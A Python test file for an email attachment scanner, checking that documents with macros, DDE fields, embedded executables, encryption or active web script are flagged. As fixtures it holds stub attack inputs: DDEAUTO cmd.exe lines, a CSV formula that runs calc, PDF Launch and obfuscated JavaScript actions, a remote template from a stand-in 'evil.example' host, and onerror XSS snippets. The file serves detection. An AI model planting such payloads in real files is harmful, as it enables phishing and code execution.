"""Documents that hold a program, load one, or cannot be looked into."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from clement.message.attachment import Attachment, Category
from tests.message.attachments.furnish import PDF, PE, look, message, zipped

MACRO, ENCRYPTED, ACTIVE = Category.MACRO, Category.ENCRYPTED, Category.ACTIVE_PAGE
TYPES = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
NOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
NOTE_FILE = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
TEMPLATE = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def compound(*streams: tuple[str, bytes], root: bytes = bytes(16)) -> bytes:
    """A compound file with these streams, each padded so that it has sectors of its own ([MS-CFB] §2.2)."""
    padded = [
        (name, octets.ljust(max(4096, -(-len(octets) // 512) * 512), b"\0")) for name, octets in streams
    ]
    fat = [0xFFFFFFFD]
    entries = [("Root Entry", 5, root, 0xFFFFFFFE, 0)]
    data = b""
    first = 1 + -(-(len(padded) + 1) // 4)
    for name, octets in padded:
        start = first + len(data) // 512
        entries.append((name, 2 if octets.strip(b"\0") else 1, bytes(16), start, len(octets)))
        data += octets
    directory_sectors = first - 1
    fat += [*range(2, directory_sectors + 1), 0xFFFFFFFE]
    for _name, octets in padded:
        start = len(fat)
        fat += [*range(start + 1, start + len(octets) // 512), 0xFFFFFFFE]
    directory = b""
    for name, kind, class_id, start, size in entries:
        raw = name.encode("utf-16-le") + b"\0\0"
        directory += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1) + b"\xff" * 12 + class_id
        directory += bytes(20) + struct.pack("<IQ", start, size)
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6)
    head += bytes(10) + struct.pack("<IIIIIIIII", 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    return head.ljust(512, b"\xff") + table + directory.ljust(512 * directory_sectors, b"\0") + data


def package(name: bytes, octets: bytes) -> bytes:
    """What lies in a stream named \\x01Ole10Native."""
    body = b"\2\0" + name + b"\0C:\\" + name + b"\0\0\0\3\0" + struct.pack("<I", 4) + b"tmp\0"
    return struct.pack("<I", len(body)) + body + struct.pack("<I", len(octets)) + octets


def records(*those: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", kind, len(octets)) + octets for kind, octets in those)


def categories(found: tuple[Attachment, ...]) -> set[Category]:
    return {category for each in found for category in each.categories}


@pytest.mark.parametrize(
    ("name", "octets"),
    [
        ("a.doc", compound(("WordDocument", b"\xec\xa5"), ("_VBA_PROJECT", b"\xcc\x61"), ("Macros", b""))),
        ("a.xls", compound(("Workbook", records((0x0809, bytes(16)), (0x0085, bytes(5) + b"\1" + b"ab"))))),
        ("a.doc", compound(("WordDocument", b"\xec\xa5" + bytes(20) + b'DDEAUTO c:\\cmd.exe "/k x"'))),
        ("a.docx", zipped({**TYPES, "word/vbaProject.bin": b"x"})),
        ("a.docx", zipped({**TYPES, "[Content_Types].xml": b'"application/vnd.ms-office.vbaProject"'})),
        ("a.xlsx", zipped({**TYPES, "xl/macrosheets/sheet1.xml": b"<x/>"})),
        ("a.docx", zipped({**TYPES, "word/_rels/settings.xml.rels": TEMPLATE})),
        ("a.docx", zipped({**TYPES, "word/document.xml": b"<w:instrText>DDEAUTO cmd</w:instrText>"})),
        ("a.docm", zipped(TYPES)),
        ("renamed.docx", zipped({**TYPES, "word/vbaProject.bin": b"x"})),
        ("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000080000005061636b61676500}}}"),
        ("a.doc", b"{\\rt{\\object\\objupdate{\\*\\objdata 01}}}"),
        ("a.odt", zipped({"mimetype": b"x", "META-INF/manifest.xml": b"<m/>", "Basic/Standard/M.xml": b"x"})),
        ("a.pdf", PDF + b"5 0 obj <</S/JavaScript/JS(app.alert)>> endobj"),
        ("a.pdf", PDF + b"5 0 obj <</S/Launch/F(cmd.exe)>> endobj"),
        ("a.pdf", PDF + b"5 0 obj <</S/J#61vaScr#69pt>> endobj"),
        (
            "a.pdf",
            PDF + b"<</Type/ObjStm>>stream\r\n" + zlib.compress(b"<</S /JavaScript >>") + b"\r\nendstream",
        ),
        ("a.csv", b"name,sum\n=cmd|'/c calc'!A0,1\n"),
        ("a.mdb", b"\0\1\0\0Standard Jet DB\0" + bytes(80)),
    ],
)
def test_a_program_in_a_document_is_told(name: str, octets: bytes) -> None:
    assert MACRO in categories(look(name, octets))


@pytest.mark.parametrize(
    ("name", "octets"),
    [
        ("a.docx", compound(("EncryptedPackage", b"x"), ("EncryptionInfo", b"y"))),
        ("a.xls", compound(("Workbook", records((0x0809, bytes(16)), (0x002F, bytes(6)))))),
        ("a.doc", compound(("WordDocument", b"\xec\xa5" + bytes(8) + b"\0\1"))),
        ("a.pdf", PDF + b"trailer <</Encrypt 9 0 R>>"),
        ("a.odt", zipped({"mimetype": b"x", "META-INF/manifest.xml": b"<manifest:encryption-data/>"})),
    ],
)
def test_a_document_with_a_password_is_told(name: str, octets: bytes) -> None:
    assert ENCRYPTED in categories(look(name, octets))


@pytest.mark.parametrize(
    ("name", "octets"),
    [
        ("a.doc", compound(("WordDocument", b"\xec\xa5"), ("\x01Ole10Native", package(b"a.exe", PE)))),
        ("a.msg", compound(("__properties_version1.0", b"x"), ("__substg1.0_37010102", PE))),
        (
            "a.docx",
            zipped({**TYPES, "word/embeddings/o.bin": compound(("\x01Ole10Native", package(b"a.js", b"x")))}),
        ),
        ("a.one", NOTE + bytes(50) + NOTE_FILE + struct.pack("<QIQ", len(PE), 0, 0) + PE),
        ("a.pdf", PDF + b"<</Type/EmbeddedFile>> <</F(invoice.exe)>>"),
        ("a.eml", b"From: x\r\n" + message(("a.exe", PE))),
        ("a.msi", compound(("x", b"y"), root=bytes.fromhex("84100c0000000000c000000000000046"))),
        ("a.bin", zipped({"META-INF/MANIFEST.MF": b"x", "a/B.class": b"\xca\xfe\xba\xbe\0\0\0\x34"})),
    ],
)
def test_a_program_inside_a_document_is_found(name: str, octets: bytes) -> None:
    assert categories(look(name, octets)) & {Category.EXECUTABLE, Category.SCRIPT}


@pytest.mark.parametrize(
    ("name", "octets"),
    [
        ("a.html", b"<html><script>location='http://x'</script>"),
        ("a.htm", b"\xff\xfe" + "<html><form action=x>".encode("utf-16-le")),
        ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()">'),
        ("a.html", b"<p>hello <img src=x onerror=alert(1)>"),
        ("a.shtml", b'<meta http-equiv="refresh" content="0;url=http://x">'),
        ("a.zip", zipped({"a.html": b"<html><iframe src=x>"})),
    ],
)
def test_a_page_with_script_or_form_is_told(name: str, octets: bytes) -> None:
    assert ACTIVE in categories(look(name, octets))


@pytest.mark.parametrize(
    ("name", "octets"),
    [
        ("a.docx", zipped(TYPES)),
        ("a.xlsx", zipped({**TYPES, "xl/printerSettings/printerSettings1.bin": b"\0" * 200})),
        ("a.doc", compound(("WordDocument", b"\xec\xa5"), ("1Table", b"x"))),
        ("a.xls", compound(("Workbook", records((0x0809, bytes(16)), (0x0085, bytes(6) + b"ab"))))),
        ("a.pdf", PDF + b"/JSON /Launcher /EncryptedNot (/JS1)"),
        ("invoice.pdf", PDF + b"<</Type/EmbeddedFile>> <</F(factur-x.xml)/UF(factur-x.xml)>>"),
        (
            "a.odt",
            zipped({"mimetype": b"x", "META-INF/manifest.xml": b"<m/>", "Basic/script-lc.xml": b"<x/>"}),
        ),
        ("a.html", b"<html><body><p>Only text</p></body></html>"),
        ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
        ("a.csv", b"name,sum\nanna,=A1+B1\n-5|x\n"),
        ("a.rtf", b"{\\rtf1\\ansi hello}"),
        ("page.txt", b"<script>shown as text</script>"),
        ("smime.p7m", b"0\x82\x01\x00\x06\x09*\x86H"),
    ],
)
def test_ordinary_documents_are_only_documents(name: str, octets: bytes) -> None:
    found = categories(look(name, octets))
    assert found <= {Category.DOCUMENT, Category.TEXT, Category.IMAGE, Category.OTHER}, found


def test_broken_chains_of_a_compound_file_end() -> None:
    octets = bytearray(compound(("WordDocument", b"\xec\xa5" * 4000)))
    octets[512 + 4 * 4 : 512 + 4 * 5] = struct.pack("<I", 4)
    assert Category.DOCUMENT in categories(look("a.doc", bytes(octets)))
    assert Category.UNREADABLE in categories(look("a.doc", bytes(octets[:300])))


def test_macros_hidden_behind_a_zip_of_another_name() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("report.docm", zipped({**TYPES, "word/vbaProject.bin": b"x"}))
    assert MACRO in categories(look("report.zip", made.getvalue()))
